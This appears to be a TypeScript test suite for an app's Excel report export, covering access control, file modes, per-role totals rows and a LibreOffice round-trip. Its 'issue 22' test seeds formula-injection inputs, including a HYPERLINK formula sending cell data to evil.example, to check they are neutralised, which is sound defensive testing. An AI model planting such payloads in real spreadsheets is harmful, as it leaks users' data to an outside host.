import { execFile } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { asc, eq } from 'drizzle-orm';
import { surfaces, users } from '../db/schema';
import { withUmask } from './file-modes';
import { createTestApp, type TestApp } from './test-app';
import { buildPromotion, newStation, newSurface, reportView, setAmounts, userIdByEmail } from './print-flow-fixture';

const run = promisify(execFile);

interface Column {
  id: number;
  name: string;
  sum: number;
  percent: number;
  total: number;
  price: string;
  total_price: string | null;
}
interface Row {
  id: number;
  name: string;
  address: string;
  categories: string[];
  surfaces: { id: number; amount: number }[];
}

let t: TestApp;
let admin: string;
let cm: string;
let dataDir: string;
let tmp: string;
let promotion: Awaited<ReturnType<typeof buildPromotion>>;
beforeAll(async () => {
  dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'promo-excel-data-'));
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'promo-excel-out-'));
  // Its own database: every station of the demo set is in the file, and no other test changes them meanwhile.
  t = await createTestApp({ DATA_DIR: dataDir }, { ownDatabase: true });
  [admin, cm] = await Promise.all([t.login('admin'), t.login('cm')]);
  const printerId = await userIdByEmail(t, 'printer@demo.no');
  const seeded = (await t.database.db.select({ id: surfaces.id }).from(surfaces).orderBy(asc(surfaces.id)).limit(3)).map((s) => s.id);
  const priced = await newSurface(t, admin, { printerId, price: '19.90', name: 'Gulvdekal kasse' });
  const empty = await newSurface(t, admin, { printerId, name: 'Flate uten mengde' });
  const station = await newStation(t, admin, { group: 'DO', categories: ['Fuel'], name: 'Åsgårdstrand «Øst»' });
  await setAmounts(t, [{ stationId: station.id, surfaceId: priced, amount: 11 }]);
  promotion = await buildPromotion(t, { manager: admin }, {
    name: 'Sommerkampanje, Øl & Is',
    // What the web sends for 1–31 March: midnight and end of day in Oslo, as UTC times.
    period: { from: '2031-02-28T23:00:00.000Z', to: '2031-03-31T21:59:59.999Z' },
    surfaces: [seeded[0]!, seeded[1]!, seeded[2]!, priced, empty],
    designs: [
      { surface: seeded[0]!, category: 'Fuel' },
      { surface: seeded[1]!, category: 'Food' },
      { surface: seeded[2]!, category: 'Generic' },
      { surface: priced, category: 'Fuel' },
      { surface: empty, category: 'Generic' },
    ],
  });
});
afterAll(async () => {
  await t.close();
  fs.rmSync(dataDir, { recursive: true, force: true });
  fs.rmSync(tmp, { recursive: true, force: true });
});

const makeFile = (token: string, body: Record<string, unknown>) =>
  t.form('POST', '/api/xl-file/make-file', { promotion_id: promotion.id, promotion_name: promotion.name, ...body }, token);

async function download(token: string, body: Record<string, unknown>, name: string) {
  const made = await makeFile(token, body);
  expect(made.statusCode, made.body).toBe(200);
  const url = made.json().data.file as string;
  expect(url).toMatch(/^\/api\/xl-file\/download\/[A-Za-z0-9_-]{20,}$/);
  const res = await t.app.inject({ method: 'GET', url, headers: { authorization: token } });
  expect(res.statusCode).toBe(200);
  expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  expect(res.headers['content-disposition']).toContain('.xlsx');
  const file = path.join(tmp, name);
  fs.writeFileSync(file, res.rawPayload);
  return { file, url };
}

/** Empty cells as null, the rest as numbers. */
const numbers = (values: unknown[]) => values.map((v) => (v === null || v === undefined || v === '' ? null : Number(v)));

describe('Excel report', () => {
  it('is downloaded only by its maker and holds the stations and the totals of the report view', async () => {
    onTestFinished(withUmask(0o022));
    const { file, url } = await download(admin, { display_address: 'true', display_categories: 'true', number_percent: 12 }, 'full.xlsx');
    // Under DATA_DIR/exports the file and its note are the server's only, whatever the umask.
    const exports = path.join(dataDir, 'exports');
    const modeOf = (p: string) => (fs.statSync(p).mode & 0o777).toString(8);
    expect([exports, ...fs.readdirSync(exports).map((n) => path.join(exports, n))].map(modeOf)).toEqual(['700', '600', '600']);
    const cmAdmin = await t.login('cm-admin');
    expect((await t.app.inject({ method: 'GET', url, headers: { authorization: cmAdmin } })).statusCode).toBe(404);
    expect((await t.app.inject({ method: 'GET', url })).statusCode).toBe(401);
    expect((await t.app.inject({ method: 'GET', url: '/api/xl-file/download/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', headers: { authorization: admin } })).statusCode).toBe(404);

    const view = (await reportView(t, admin, promotion.id, 12)).json().data as { columns: Column[]; user_obj: Row[] };
    const columns = view.columns;
    expect(columns).toHaveLength(4); // the design on the surface nobody plans is left out

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.worksheets[0]!;
    expect(ws.views[0]).toMatchObject({ state: 'frozen', xSplit: 3, ySplit: 4 });
    const width = 3 + columns.length;
    const row = (n: number) => Array.from({ length: width }, (_, i) => ws.getRow(n).getCell(i + 1).value);
    expect(row(1)[0]).toBe(promotion.name);
    expect(row(2)[0]).toBe('01.03.2031 – 31.03.2031'); // the days in Norway, whatever the server's time zone
    expect(row(3)[0]).toContain('12');
    const header = row(4);
    expect(header.slice(0, 3)).toEqual(['Stasjon / Station', 'Adresse / Address', 'Kategorier / Categories']);
    const names = header.slice(3) as string[];
    expect([...names].sort()).toEqual(columns.map((c) => c.name).sort());
    const byName = new Map(columns.map((c) => [c.name, c]));

    const stations = view.user_obj.filter((r) => r.surfaces.length > 0);
    expect(stations.length).toBeGreaterThan(20);
    for (const [i, s] of stations.entries()) {
      const cells = row(5 + i);
      expect(cells[0]).toBe(s.name);
      expect(cells[1]).toBe(s.address);
      expect(cells[2]).toBe(s.categories.join(', '));
      const expected = names.map((n) => s.surfaces.find((c) => c.id === byName.get(n)!.id)?.amount ?? null);
      expect(numbers(cells.slice(3, 3 + names.length)), s.name).toEqual(expected);
    }
    expect(stations.some((s) => s.name === 'Åsgårdstrand «Øst»')).toBe(true);
    const after = 5 + stations.length;
    const totals = (label: string, n: number, pick: (c: Column) => number) => {
      const cells = row(n);
      expect(cells[0]).toBe(label);
      expect(numbers(cells.slice(3, 3 + names.length))).toEqual(names.map((name) => pick(byName.get(name)!)));
    };
    totals('Sum', after, (c) => c.sum);
    totals('Prosent / Percent', after + 1, (c) => c.percent);
    totals('Totalt antall / Total number', after + 2, (c) => c.total);
    totals('Pris per enhet / Price per unit', after + 3, (c) => Number(c.price));
    totals('Total pris / Total price', after + 4, (c) => Number(c.total_price));
    expect(ws.getRow(after + 4).getCell(4).numFmt).toBe('0.00');
    expect(ws.rowCount).toBe(after + 4);
  });

  it('shows each role the totals rows of its web report', async () => {
    const labels = { sum: 'Sum', percent: 'Prosent / Percent', total: 'Totalt antall / Total number', price: 'Pris per enhet / Price per unit', total_price: 'Total pris / Total price' };
    for (const role of ['admin', 'cm-admin', 'cm'] as const) {
      const token = await t.login(role);
      const { file } = await download(token, { display_address: 'false', display_categories: '', number_percent: '' }, `rows-${role}.xlsx`);
      // What the web report shows: every totals row of the view whose values it sent (total_price is null when hidden).
      const column = ((await reportView(t, token, promotion.id)).json().data as { columns: Column[] }).columns[0]!;
      const shown = (['sum', 'percent', 'total', 'price', 'total_price'] as const).filter((k) => column[k] !== null).map((k) => labels[k]);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(file);
      const ws = wb.worksheets[0]!;
      const totals = [];
      for (let n = 5; n <= ws.rowCount; n++) if (Object.values(labels).includes(ws.getRow(n).getCell(1).value as string)) totals.push(ws.getRow(n).getCell(1).value);
      expect(totals, role).toEqual(shown);
    }
  });

  it('leaves out the address, categories and total price when not asked or not allowed', async () => {
    const { file } = await download(cm, { display_address: 'false', display_categories: '', number_percent: '' }, 'plain.xlsx');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.worksheets[0]!;
    expect(ws.views[0]).toMatchObject({ state: 'frozen', xSplit: 1, ySplit: 4 });
    const header = (ws.getRow(4).values as unknown[]).slice(1);
    expect(header[0]).toBe('Stasjon / Station');
    expect(header).not.toContain('Adresse / Address');
    const labels = [];
    for (let n = 5; n <= ws.rowCount; n++) labels.push(ws.getRow(n).getCell(1).value);
    expect(labels.slice(-4)).toEqual(['Sum', 'Prosent / Percent', 'Totalt antall / Total number', 'Pris per enhet / Price per unit']);
    expect(labels).not.toContain('Total pris / Total price');
  });

  it('refuses unknown promotions, bad input and roles without the report', async () => {
    expect((await t.form('POST', '/api/xl-file/make-file', { promotion_id: 2_000_000_000 }, admin)).statusCode).toBe(404);
    expect((await t.form('POST', '/api/xl-file/make-file', { promotion_id: '1x' }, admin)).statusCode).toBe(422);
    expect((await makeFile(admin, { number_percent: '-5' })).statusCode).toBe(422);
    for (const role of ['distributor', 'printer', 'designer', 'user'] as const) {
      expect((await makeFile(await t.login(role), {})).statusCode, role).toBe(403);
    }
  });

  it('opens in LibreOffice with the numbers of the report view', { timeout: 180_000 }, async () => {
    const { file } = await download(admin, { display_address: 'true', display_categories: 'true', number_percent: 7 }, 'libre.xlsx');
    const lines = await asCsvByLibreOffice(file);
    const view = (await reportView(t, admin, promotion.id, 7)).json().data as { columns: Column[]; user_obj: Row[] };
    const header = lines[3]!;
    const byName = new Map(view.columns.map((c) => [c.name, c]));
    // The six delivery follow-up columns come after the surfaces (decision 019).
    expect(header.slice(-6)).toEqual(['Sendt / Sent', 'Mottatt / Received at', 'Mottak / Receipt', 'Merknad / Note', 'Bilder / Photos', 'Plassert / Placed']);
    const names = header.slice(3, -6).filter(Boolean);
    expect(names.length).toBe(view.columns.length);
    const stations = view.user_obj.filter((r) => r.surfaces.length > 0);
    for (const [i, s] of stations.entries()) {
      const cells = lines[4 + i]!;
      expect(cells[0]).toBe(s.name);
      expect(cells[1]).toBe(s.address);
      expect(numbers(cells.slice(3, 3 + names.length))).toEqual(names.map((n) => s.surfaces.find((c) => c.id === byName.get(n)!.id)?.amount ?? null));
    }
    const at = (label: string) => lines.find((l) => l[0] === label)!;
    const pick = (label: string, f: (c: Column) => string | number) => expect(at(label).slice(3, 3 + names.length), label).toEqual(names.map((n) => String(f(byName.get(n)!))));
    pick('Sum', (c) => c.sum);
    pick('Prosent / Percent', (c) => c.percent);
    pick('Totalt antall / Total number', (c) => c.total);
    pick('Pris per enhet / Price per unit', (c) => c.price);
    pick('Total pris / Total price', (c) => c.total_price!);
  });
});

describe('Excel report cells from user text (issue 22)', () => {
  it('starts text that a spreadsheet would take for a formula with an apostrophe, as LibreOffice reads it back', { timeout: 180_000 }, async () => {
    const printerId = await userIdByEmail(t, 'printer@demo.no');
    const surface = await newSurface(t, admin, { printerId, name: '@SUM(1+1)' });
    const hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"Klikk")';
    const [a, b, c, d] = [
      await newStation(t, admin, { group: 'DO', categories: ['Fuel'], name: hyperlink }),
      await newStation(t, admin, { group: 'DO', categories: ['Fuel'], name: '-2+3' }),
      await newStation(t, admin, { group: 'DO', categories: ['Fuel'] }),
      await newStation(t, admin, { group: 'DO', categories: ['Fuel'], name: 'Vanlig stasjon' }),
    ];
    // Tab and carriage return: the forms refuse control characters, older rows may hold them.
    await t.database.db.update(users).set({ name: '\t=4+5' }).where(eq(users.id, c.id));
    await t.database.db.update(users).set({ post_address: '\r=6+7' }).where(eq(users.id, b.id));
    await setAmounts(t, [a, b, c, d].map((s) => ({ stationId: s.id, surfaceId: surface, amount: 2 })));
    const own = await buildPromotion(t, { manager: admin }, { surfaces: [surface], designs: [{ surface, category: 'Fuel' }] });
    const made = await makeFile(admin, { promotion_id: own.id, promotion_name: '+8+9', display_address: 'true', display_categories: '', number_percent: '' });
    expect(made.statusCode, made.body).toBe(200);
    const res = await t.app.inject({ method: 'GET', url: made.json().data.file as string, headers: { authorization: admin } });
    const file = path.join(tmp, 'formulas.xlsx');
    fs.writeFileSync(file, res.rawPayload);

    const lines = await asCsvByLibreOffice(file);
    expect(lines[0]![0]).toBe("'+8+9");
    expect(lines[3]![2]).toMatch(/^'@SUM\(1\+1\) - /);
    const row = (name: string) => lines.find((l) => l[0] === name);
    expect(row(`'${hyperlink}`)).toBeTruthy();
    expect(row("'-2+3")![1]).toMatch(/^'[\r\n]+=6\+7, 0150 Oslo$/);
    expect(row("'\t=4+5")).toBeTruthy();
    // Text that is no formula stays as it is.
    expect(row('Vanlig stasjon')).toBeTruthy();
  });
});

async function asCsvByLibreOffice(file: string): Promise<string[][]> {
  const profile = fs.mkdtempSync(path.join(os.tmpdir(), 'promo-lo-profile-'));
  try {
    // Fails (ENOENT) when LibreOffice is not installed: CI must have libreoffice-calc-nogui.
    await run(
      'libreoffice',
      [`-env:UserInstallation=file://${profile}`, '--headless', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1', '--outdir', tmp, file],
      { timeout: 150_000 },
    );
  } finally {
    fs.rmSync(profile, { recursive: true, force: true });
  }
  return parseCsv(fs.readFileSync(path.join(tmp, `${path.basename(file, '.xlsx')}.csv`), 'utf8'));
}

/** RFC 4180 CSV (quoted fields may hold commas, quotes and new lines). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += ch;
  }
  if (field || row.length) rows.push([...row, field]);
  return rows;
}
